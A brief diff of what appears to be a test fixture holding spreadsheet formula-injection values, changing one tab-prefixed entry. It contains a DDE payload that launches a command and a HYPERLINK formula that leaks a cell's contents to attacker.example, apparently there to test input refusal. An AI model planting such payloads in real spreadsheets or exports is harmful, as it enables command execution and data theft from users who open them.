@@ -27,7 +27,7 @@ GROUP = "-2+3+cmd|' /C calc'!A0"
 REASON = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 SIZE = "+SUM(1,1)"
 CURRENCY = "@EUR"
-HOST = "\t=1+2"  # a tab first: some spreadsheets strip it and run the rest
+HOST = "=1+2"  # a name with a tab first, which some spreadsheets strip, is refused by the inventory
 DAYS = 3
 
 
